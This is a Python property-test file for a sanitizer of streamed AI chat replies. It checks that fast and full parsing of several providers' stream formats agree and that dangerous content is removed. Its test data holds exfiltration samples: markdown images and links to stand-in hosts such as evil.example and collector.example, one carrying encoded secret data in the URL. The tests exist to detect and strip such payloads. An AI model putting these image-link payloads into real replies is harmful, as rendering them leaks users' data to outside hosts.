"""The quick per-token path (`Dialect.quick`, NDJSON's usual lines) against the full
one: over generated streams of the usual chunks and of adversarial near-misses
(duplicate or escaped keys, `\\u` escapes and lone surrogates, a second or nested text
field, other spacing, tool calls), each event its own body message, a client parses the
same events from both, in the same order, the same failure (if any) at the same place,
and the same findings. The quick path must also be taken for the usual chunk, or the
comparison proves nothing; and without orjson everything still reads."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rendersafe import Finding, Sanitizer
from rendersafe.errors import FormatError
from rendersafe.wire import Texts
from rendersafe.wire.ndjson import NdjsonCodec
from rendersafe.wire.sse_codec import SseCodec
from wire_clients import sse_events

ROOT = Path(__file__).parent.parent
SANITIZER = Sanitizer()

# Pieces of replies: honest text, an exfiltration image cut anywhere, JSON's special
# characters, what only `\u` escapes can carry.
PIECES = [
    "Hello",
    " world",
    "\n",
    "\n\n",
    "![a",
    "](",
    "https://",
    "evil.example/x.png?d=",
    "c2VjcmV0",
    ")",
    "[link](https://collector.example/?q=",
    '"',
    "\\",
    "\t",
    "/",
    "é",
    "😀",
    "\u2028",
    "\x7f",
    "<img src=https://evil.example/p.gif>",
    "`",
    " ",
]
SURROGATES = ["\ud83d", "\udc00"]


@st.composite
def tokens(draw: st.DrawFn) -> str:
    return "".join(draw(st.lists(st.sampled_from(PIECES), min_size=0, max_size=4)))


@st.composite
def strings(draw: st.DrawFn) -> str:
    """A JSON string literal holding a token, written as some server might write it."""
    text = draw(tokens())
    style = draw(st.sampled_from(["raw", "raw", "raw", "ascii", "slash", "surrogate"]))
    if style == "surrogate":
        return json.dumps(text + draw(st.sampled_from(SURROGATES)))  # only as `\u` escapes
    literal = json.dumps(text, ensure_ascii=style == "ascii")
    return literal.replace("/", "\\/") if style == "slash" else literal


HEAD = '"id":"chatcmpl-1","object":"chat.completion.chunk","created":1,"model":"m"'


@st.composite
def chat_events(draw: st.DrawFn) -> str:
    text, other = draw(strings()), draw(strings())
    index = draw(st.sampled_from([0, 0, 0, 1]))
    usual = f'{{{HEAD},"choices":[{{"index":{index},"delta":{{"content":{text}}},'
    shapes = [
        usual + '"logprobs":null,"finish_reason":null}]}',
        usual + '"finish_reason":null}],"usage":null,"obfuscation":"x1"}',
        usual[:-1] + "}]}",
        f'{{{HEAD},"choices":[{{"index":0,"delta":{{"role":"assistant","content":{text}}},'
        '"finish_reason":null}]}',
        usual[:-1] + f',"content":{other}}},"finish_reason":null}}]}}',  # a duplicate key
        usual.replace('"content"', '"con\\u0074ent"') + '"finish_reason":null}]}',
        usual[:-1] + f',"reasoning_content":{other}}},"finish_reason":null}}]}}',
        f'{{{HEAD},"x":{{"content":{other}}},' + usual[len(HEAD) + 2 :] + '"finish_reason":null}]}',
        usual.replace('"content":', '"content": ') + '"finish_reason":null}]}',
        usual + '"finish_reason":null}],"choices":null}',  # the last `choices` wins
        usual + '"logprobs":{"content":[]},"finish_reason":null}]}',
        usual + '"finish_reason":"stop"}]}',
        usual + f'"finish_reason":null}},{{"index":1,"delta":{{"content":{other}}}}}]}}',
        f'{{{HEAD},"choices":[{{"index":0,"delta":{{"tool_calls":[{{"index":0,"id":"call_1",'
        f'"type":"function","function":{{"name":"f","arguments":{other}}}}}]}},'
        '"finish_reason":null}]}',
        f'{{{HEAD},"choices":[],"usage":{{"prompt_tokens":1,"completion_tokens":2}}}}',
        f'{{{HEAD},"created":123456789012345678901234567890,' + usual[len(HEAD) + 2 :] + "}]}",
    ]
    weights = [8, 3, 3, 2, *[1] * (len(shapes) - 4)]
    pool = [shape for shape, weight in zip(shapes, weights, strict=True) for _ in range(weight)]
    return f"data: {draw(st.sampled_from(pool))}\n\n"


@st.composite
def anthropic_events(draw: st.DrawFn) -> str:
    text, other = draw(strings()), draw(strings())
    index = draw(st.sampled_from([0, 0, 1]))
    delta = f'"delta":{{"type":"text_delta","text":{text}}}'
    usual = f'{{"type":"content_block_delta","index":{index},{delta}}}'
    shapes = [
        usual,
        usual,
        usual,
        usual[:-2] + f',"text":{other}}}}}',
        usual.replace('"text":', '"te\\u0078t":'),
        usual.replace('"index"', '"index" '),
        usual[:-1] + f',"extra":{{"text":{other}}}}}',
        f'{{"type":"content_block_delta","index":{index},"delta":{{"type":"input_json_delta",'
        f'"partial_json":{other}}}}}',
    ]
    name = draw(st.sampled_from(["content_block_delta", "content_block_delta", "other"]))
    return f"event: {name}\ndata: {draw(st.sampled_from(shapes))}\n\n"


ANTHROPIC_START = (
    'event: message_start\ndata: {"type":"message_start","message":{"id":"msg_1",'
    '"type":"message","role":"assistant","content":[]}}\n\n'
)


@st.composite
def ai_sdk_events(draw: st.DrawFn) -> str:
    text, other = draw(strings()), draw(strings())
    part = draw(st.sampled_from(["text", "text", "reasoning"]))
    ident = draw(st.sampled_from(['"t1"', '"t1"', '"t2"', "1"]))
    usual = f'{{"type":"{part}-delta","id":{ident},"delta":{text}}}'
    shapes = [
        usual,
        usual,
        usual,
        usual[:-1] + f',"delta":{other}}}',
        usual.replace('"delta":', '"delt\\u0061":'),
        usual[:-1] + ',"providerMetadata":{"x":{"delta":"y"}}}',
        usual.replace('"id":', '"id" :'),
    ]
    return f"data: {draw(st.sampled_from(shapes))}\n\n"


@st.composite
def responses_events(draw: st.DrawFn) -> str:
    text, other = draw(strings()), draw(strings())
    kind = draw(st.sampled_from(["output_text", "output_text", "refusal"]))
    item = draw(st.sampled_from(['"msg_1"', '"msg_1"', '"msg_2"', "7"]))
    where = f'"item_id":{item},"output_index":0,"content_index":0'
    usual = f'{{"type":"response.{kind}.delta","sequence_number":3,{where},"delta":{text}'
    shapes = [
        usual + "}",
        usual + ',"logprobs":[]}',
        usual + ',"logprobs":[],"obfuscation":"abc"}',
        usual + f',"delta":{other}}}',
        usual + ',"item_id":"msg_9"}',
        usual + ',"content_index":1}',
        usual.replace('"content_index":0', '"content_index":true') + "}",
        usual.replace('"delta":', '"delt\\u0061":') + "}",
        usual + ',"logprobs":[{"token":"x"}]}',
    ]
    name = f"event: response.{kind}.delta\n" if draw(st.booleans()) else ""
    return f"{name}data: {draw(st.sampled_from(shapes))}\n\n"


@st.composite
def ollama_lines(draw: st.DrawFn) -> str:
    text, other = draw(strings()), draw(strings())
    envelope = '{"model":"llama3","created_at":"2024-01-01T00:00:00Z",'
    chat = f'{envelope}"message":{{"role":"assistant","content":{text}}},"done":false}}'
    generate = f'{envelope}"response":{text},"done":false}}'
    shapes = [
        chat,
        chat,
        generate,
        generate,
        chat.replace('"content":', '"content": '),
        chat[:-15] + f',"content":{other}}},"done":false}}',
        chat[:-15] + f',"thinking":{other}}},"done":false}}',
        chat.replace('"content"', '"con\\u0074ent"'),
        generate[:-1] + ',"context":[1,2]}',
        chat.replace('"done":false', '"done":true'),
    ]
    return draw(st.sampled_from(shapes)) + "\n"


Parsed = list[Any]


def parsed_sse(body: bytes) -> Parsed:
    """The events a client dispatches, each (name, data parsed if JSON)."""
    events = []
    for name, data in sse_events(body.decode("utf-8", "surrogatepass")):
        try:
            events.append((name, json.loads(data)))
        except ValueError:
            events.append((name, data))
    return events


def parsed_lines(body: bytes) -> Parsed:
    lines = body.decode("utf-8", "surrogatepass").split("\n")
    return [json.loads(line) for line in lines if line.strip()]


Run = tuple[Parsed, str | None, list[str]]


def run(make: Callable[[Texts], Any], messages: list[str], parse: Callable[[bytes], Parsed]) -> Run:
    """Each message through a fresh codec: what a client parses, the failure, findings."""
    findings: list[Finding] = []
    codec = make(Texts(SANITIZER, findings.append))
    out, failure = b"", None
    try:
        for message in messages:
            out += codec.feed(message.encode("utf-8", "surrogatepass"))
        out += codec.close()
    except (FormatError, UnicodeEncodeError) as exc:
        failure = type(exc).__name__
    return parse(out), failure, [f.model_dump_json() for f in findings]


def quick_and_full(
    make: Callable[[Texts, bool], Any], messages: list[str], parse: Callable[[bytes], Parsed]
) -> tuple[Run, Run]:
    quick = run(lambda texts: make(texts, True), messages, parse)
    full = run(lambda texts: make(texts, False), messages, parse)
    return quick, full


SSE_CASES: dict[str, tuple[Any, list[str], list[str]]] = {
    "openai-chat": (chat_events(), [], ["data: [DONE]\n\n"]),
    "anthropic": (anthropic_events(), [ANTHROPIC_START], []),
    "ai-sdk": (ai_sdk_events(), [], ["data: [DONE]\n\n"]),
    "openai-responses": (responses_events(), [], []),
}
PROPERTY = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@pytest.mark.parametrize("dialect", list(SSE_CASES))
@PROPERTY
@given(data=st.data())
def test_quick_and_full_framing_read_the_same(dialect: str, data: st.DataObject) -> None:
    strategy, head, tail = SSE_CASES[dialect]
    body = data.draw(st.lists(strategy, min_size=1, max_size=30))
    pinned = data.draw(st.booleans())  # pinned: the quick path may take the first event

    def make(texts: Texts, quick: bool) -> SseCodec:
        return SseCodec(texts, dialect if pinned else None, quick=quick)

    quick, full = quick_and_full(make, head + body + tail, parsed_sse)
    assert quick == full


@PROPERTY
@given(lines=st.lists(ollama_lines(), min_size=1, max_size=30))
def test_quick_and_full_ndjson_read_the_same(lines: list[str]) -> None:
    def make(texts: Texts, quick: bool) -> NdjsonCodec:
        return NdjsonCodec(texts, quick=quick)

    quick, full = quick_and_full(make, lines, parsed_lines)
    assert quick == full


def _usual(dialect: str, text: str) -> str:
    return {
        "openai-chat": f'data: {{{HEAD},"choices":[{{"index":0,"delta":{{"content":'
        f'{json.dumps(text)}}},"logprobs":null,"finish_reason":null}}]}}\n\n',
        "anthropic": 'event: content_block_delta\ndata: {"type":"content_block_delta",'
        f'"index":0,"delta":{{"type":"text_delta","text":{json.dumps(text)}}}}}\n\n',
        "ai-sdk": f'data: {{"type":"text-delta","id":"t1","delta":{json.dumps(text)}}}\n\n',
        "openai-responses": "event: response.output_text.delta\ndata: "
        '{"type":"response.output_text.delta","sequence_number":1,"item_id":"msg_1",'
        f'"output_index":0,"content_index":0,"delta":{json.dumps(text)},"logprobs":[]}}\n\n',
    }[dialect]


@pytest.mark.parametrize("dialect", list(SSE_CASES))
def test_the_usual_chunk_takes_the_quick_path(dialect: str) -> None:
    """Every usual chunk after the first is taken quickly, an image held back and
    removed; the emptied chunks are not sent (but for Responses, whose events are
    numbered)."""
    texts = Texts(SANITIZER)
    codec = SseCodec(texts)
    taken: list[str] = []
    reply = "Hi ![a](https://evil.example/x.png?d=c2VjcmV0) there.\n\nBye"
    pieces = [reply[i : i + 4] for i in range(0, len(reply), 4)]
    head = SSE_CASES[dialect][1]
    out = b"".join(codec.feed(event.encode()) for event in head)
    out += codec.feed(_usual(dialect, pieces[0]).encode())
    dialect_of = codec._dialect
    assert dialect_of is not None
    quick = dialect_of.quick

    def counted(text: str) -> str | None:
        result = quick(text)
        if result is not None:
            taken.append(result)
        return result

    dialect_of.quick = counted  # type: ignore[method-assign]
    for piece in pieces[1:]:
        out += codec.feed(_usual(dialect, piece).encode())
    out += codec.close()
    assert len(taken) == len(pieces) - 1
    assert "evil.example" not in out.decode()
    dropped = taken.count("")
    assert dropped == 0 if dialect == "openai-responses" else dropped >= 5


def test_without_orjson_everything_reads(tmp_path: Path) -> None:
    """orjson blocked: `loads` is the stdlib's, and every dialect's stream still reads."""
    script = textwrap.dedent(
        """
        import json, sys
        sys.modules["orjson"] = None  # an import of it raises ImportError
        from rendersafe import Sanitizer
        from rendersafe.wire import Texts, codec_for, jsonlib
        from test_quick_path import _usual, SSE_CASES

        out = {"fast": jsonlib.FAST, "loaded": bool(sys.modules.get("orjson"))}
        reply = "Hi ![a](https://evil.example/x.png?d=c2VjcmV0) there."
        for dialect, (_, head, tail) in SSE_CASES.items():
            codec = codec_for("sse", Texts(Sanitizer()))
            body = b"".join(codec.feed(e.encode()) for e in head)
            for i in range(0, len(reply), 4):
                body += codec.feed(_usual(dialect, reply[i : i + 4]).encode())
            body += b"".join(codec.feed(e.encode()) for e in tail) + codec.close()
            out[dialect] = "evil.example" not in body.decode() and "there." in body.decode()
        print(json.dumps(out))
        """
    )
    paths = [str(ROOT / "src"), str(ROOT / "tests")]
    env = dict(os.environ, PYTHONPATH=os.pathsep.join(paths))
    done = subprocess.run(
        [sys.executable, "-c", script],
        check=False,
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stderr
    got = json.loads(done.stdout.splitlines()[-1])
    assert got.pop("fast") is False
    assert got.pop("loaded") is False
    assert got == dict.fromkeys(SSE_CASES, True)
